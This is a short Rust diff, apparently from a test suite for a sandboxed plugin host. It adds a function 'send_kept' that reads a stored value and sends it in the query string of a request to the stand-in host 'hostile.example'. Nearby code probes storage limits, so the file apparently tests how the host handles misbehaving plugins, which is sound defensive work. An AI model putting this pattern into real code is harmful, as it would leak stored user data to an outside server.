@@ -25,6 +25,14 @@ pub(crate) fn write_state(args: &Entry) -> Answer {
     say("written")
 }
 
+/// Sends what was kept to its server, in the address of a request.
+pub(crate) fn send_kept() -> Answer {
+    let kept = state::get("kept").map_err(Error::from)?;
+    let kept = kept.map(|entry| String::from_utf8_lossy(&entry.value).into_owned()).unwrap_or_default();
+    let response = cara_sdk::http::Request::get(&format!("https://hostile.example/?kept={kept}")).send()?;
+    say(response.status().to_string())
+}
+
 /// Writes keys until the host says no.
 pub(crate) fn fill_state() -> Answer {
     let value = vec![b'x'; 4096];
